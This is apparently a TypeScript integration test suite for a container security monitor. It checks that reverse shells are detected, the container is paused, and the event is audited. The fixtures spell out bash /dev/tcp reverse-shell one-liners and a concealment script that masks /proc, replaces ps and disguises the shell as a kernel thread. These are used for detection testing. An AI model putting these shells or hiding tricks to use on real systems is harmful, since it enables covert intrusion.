// Goal: a monitored session under attack is paused within seconds, its owner gets the reason and resumes it or loses
// it; and a session that only works is never paused.
// Method: real containers with a private coid; the attacker is a server of the test on the bridge.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { findCgroups } from '../../src/host/proc/cgroups.ts';
import { verifyLines } from '../../src/monitor/audit.ts';
import { defaultSettings, type MonitorSettings } from '../../src/monitor/settings.ts';
import { slowdown } from '../bed/slowdown.ts';
import { type CoidBed, makeCoidBed } from '../incus/coid-bed.ts';
import { startAttacker } from './attacker.ts';
import { untilAudited } from './audited.ts';

const limit = { timeout: 180_000 };

function monitorConfig(settings: Partial<MonitorSettings> = {}) {
  return { 'user.coi.monitor': JSON.stringify({ ...defaultSettings, ...settings }) };
}

/** Starts it in the background, detached from the exec that starts it. */
function plant({ sh }: CoidBed, container: string, command: string) {
  return sh(container, `setsid sh -c '${command}' >/dev/null 2>&1 </dev/null &`);
}

async function auditLines(bed: CoidBed, container: string): Promise<string[]> {
  const { lines } = await bed.coid.audit(container, { after: 0, waitMs: 0 });
  return [...lines];
}

/** As root: /proc and ps are hidden, and the shell has the name of a kernel thread. Prints the number of visible processes. */
const hiddenShell = (gateway: string, port: number) => `
cp /bin/true /bin/ps; mount -t tmpfs none /proc
cat > /tmp/hidden <<'end'
exec -a "[kworker/u8:1]" bash -i >& /dev/tcp/${gateway}/${port} 0>&1
end
setsid bash /tmp/hidden >/dev/null 2>&1 </dev/null &
ls /proc | grep -c "^[0-9]"`;

const shell = (gateway: string, port: number) =>
  `bash -c "bash -i >& /dev/tcp/${gateway}/${port} 0>&1"`;

test(
  'a reverse shell is paused within three seconds, explained, and runs again after unfreeze',
  limit,
  async () => {
    await using bed = await makeCoidBed();
    await using remote = await startAttacker();
    const { container, nic } = await bed.session({
      config: monitorConfig({ killGraceMs: 60_000 }),
    });
    await untilWatched(bed, container);
    await plant(bed, container, shell(nic.gateway, remote.port));
    const socket = await remote.connected;
    const started = performance.now();
    await bed.lifecycle.until('instance-paused', container);
    const tookMs = performance.now() - started;
    assert.ok(tookMs < 3000 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
    const found = await bed.incus.instance(container);
    assert.equal(found?.instance.status, 'Frozen');
    await bed.lifecycle.until('instance-updated', container);
    const lines = await auditLines(bed, container);
    const records = lines.map((line) => JSON.parse(line));
    const paused = records.filter(({ action }) => action === 'paused');
    const result = paused.map(({ title, description }) => `${title}: ${description}`).join(' ');
    assert.match(result, /reverse shell/i);
    assert.match(result, new RegExp(`${nic.gateway}:${remote.port}`));
    assert.deepEqual(verifyLines(lines).problems, []);
    const answered = new Promise<void>((resolve) => socket.once('data', () => resolve()));
    const operation = await bed.incus.changeState(container, { action: 'unfreeze' });
    await operation.wait({ timeoutMs: 30_000 });
    socket.write('id\n');
    await answered;
    // It is logged, and the same finding does not pause again.
    await untilAction(bed, container, 'unfrozen');
    assert.equal(await bed.status(container), 'Running');
  },
);

test('a container that is not resumed in time is killed, with evidence kept', limit, async () => {
  await using bed = await makeCoidBed();
  await using remote = await startAttacker();
  const { container, nic } = await bed.session({ config: monitorConfig({ killGraceMs: 1000 }) });
  await untilWatched(bed, container);
  await plant(bed, container, shell(nic.gateway, remote.port));
  await bed.lifecycle.until('instance-deleted', container);
  const records = (await auditLines(bed, container)).map((line) => JSON.parse(line));
  const kept = records.find(({ action }) => action === 'evidence-kept');
  const report = JSON.parse(await readFile(join(kept.evidence.directory, 'report.json'), 'utf8'));
  assert.equal(report.cause.title, 'Reverse shell');
  assert.ok(records.some(({ action }) => action === 'killed'));
});

test(
  'an unmonitored session is not affected by a shell; in a monitored one it cannot be hidden',
  limit,
  async () => {
    await using bed = await makeCoidBed();
    await using remote = await startAttacker();
    await using hiddenRemote = await startAttacker();
    const watchedOne = await bed.session({ config: monitorConfig({ killGraceMs: 60_000 }) });
    const other = await bed.session();
    await untilWatched(bed, watchedOne.container);
    await plant(bed, other.container, shell(other.nic.gateway, remote.port));
    await remote.connected;
    // Both are sampled in the same rounds: once the monitored one is paused, the other one had its chance.
    const hidden = await bed.sh(
      watchedOne.container,
      hiddenShell(watchedOne.nic.gateway, hiddenRemote.port),
      'root',
    );
    assert.equal(hidden.stdout.toString().trim(), '0', 'processes that can be seen inside');
    await hiddenRemote.connected;
    await bed.lifecycle.until('instance-paused', watchedOne.container);
    assert.equal(await bed.status(other.container), 'Running');
  },
);

test('a container under load is paused shortly after the sample', limit, async () => {
  await using bed = await makeCoidBed();
  await using remote = await startAttacker();
  const { container, nic } = await bed.session({ config: monitorConfig({ killGraceMs: 60_000 }) });
  await untilWatched(bed, container);
  await plant(bed, container, 'while :; do (true); done');
  await plant(
    bed,
    container,
    'while :; do dd if=/dev/zero of=/tmp/x bs=1M count=50 2>/dev/null; done',
  );
  await plant(bed, container, shell(nic.gateway, remote.port));
  await remote.connected;
  const started = performance.now();
  await bed.lifecycle.until('instance-paused', container);
  const tookMs = performance.now() - started;
  // Up to two seconds until the sample, and one and a half after it.
  assert.ok(tookMs < 3500 * (await slowdown()), `paused after ${Math.round(tookMs)} ms`);
});

test(
  "the host's open files of a program that is entering the container are not attributed to it",
  limit,
  async () => {
    await using bed = await makeCoidBed();
    await using onHost = await startAttacker();
    await using fromInside = await startAttacker();
    const { container, nic } = await bed.session();
    const outside = connect(onHost.port, nic.gateway);
    await onHost.connected;
    await plant(bed, container, `nc ${nic.gateway} ${fromInside.port}`);
    await fromInside.connected;
    const entering = spawn('sleep', ['60']);
    try {
      const { pid } = await bed.incus.instanceState(container);
      const group = findCgroups(pid)?.processes;
      writeFileSync(`${group}/cgroup.procs`, String(entering.pid));
      const { processes, network } = await bed.coid.monitor(container);
      const remotes = network.connections.map(({ remote }) => remote);
      assert.ok(processes.processes.some((one) => one.pid === entering.pid));
      assert.ok(remotes.includes(`${nic.gateway}:${fromInside.port}`), remotes.join(' '));
      assert.ok(!remotes.includes(`${nic.gateway}:${onHost.port}`), remotes.join(' '));
    } finally {
      entering.kill();
      outside.destroy();
    }
  },
);

/** Builds, packers and package managers are tested in test/image/ordinary-work.test.ts. */
const ordinaryWork: Readonly<Record<string, string>> = {
  'many short processes at once':
    'seq 1 400 | xargs -P 32 -n 1 sh -c "sort /etc/passwd > /dev/null"',
  'a pool of workers': 'for i in $(seq 1 100); do sleep 4 & done; wait',
  'a search for words that sound like secrets':
    'grep -rn token /usr/share/doc /etc 2>/dev/null | wc -l; env | sort | wc -l; find / -xdev -name "*.conf" 2>/dev/null | wc -l',
  'a wait for a port':
    'for i in 1 2 3; do timeout 1 bash -c "echo > /dev/tcp/127.0.0.1/5432" || true; done',
};

test('ordinary work is never paused and raises no alert', { timeout: 400_000 }, async () => {
  await using bed = await makeCoidBed();
  const { container, nic } = await bed.session({ config: monitorConfig() });
  await untilWatched(bed, container);
  for (const [name, script] of Object.entries(ordinaryWork)) {
    const done = await bed.sh(container, script);
    assert.equal(done.status, 0, `${name}: ${done.stderr}`);
  }
  await plant(bed, container, 'nc -lk 3000');
  await untilAction(bed, container, 'logged');
  for (let visits = 0; visits < 5; visits += 1) await visit(nic.address, 3000);
  const records = (await auditLines(bed, container)).map((line) => JSON.parse(line));
  assert.deepEqual(
    records.filter(({ level }) => level !== 'info'),
    [],
  );
  assert.equal(await bed.status(container), 'Running');
});

/** A client from the host, like a browser on a development server. */
function visit(host: string, port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, host, () => socket.end('GET / HTTP/1.0\r\n\r\n'));
    socket.on('error', reject);
    socket.on('finish', () => {
      socket.destroy();
      resolve();
    });
  });
}

/** Resolves when coid has logged that it monitors the session. */
function untilWatched(bed: CoidBed, container: string): Promise<unknown> {
  return untilAction(bed, container, 'watch-started');
}

function untilAction({ coid }: CoidBed, container: string, wanted: string): Promise<unknown> {
  return untilAudited(coid, container, ({ action }) => action === wanted);
}
